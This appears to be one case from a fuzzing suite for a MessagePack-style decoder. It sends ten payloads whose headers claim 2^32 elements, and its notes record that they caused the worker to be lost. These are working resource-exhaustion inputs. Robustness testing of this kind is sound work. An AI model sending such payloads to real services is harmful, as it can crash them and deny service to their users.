"""G09: five bytes that promise 2^32 elements, of each kind.

by: limits by type, before anything is set aside
verdict: worker_lost
payloads: 10
"""
import time

tried("counts of 2^32")
send_payload(payload(*(before + head + b"\xff\xff\xff\xff" for head in (b"\xdd", b"\xdf", b"\xdb", b"\xc6", b"\xc9")
                       for before in (b"", b"\x82\xa4type\xa6result\xa4data"))))
time.sleep(5)
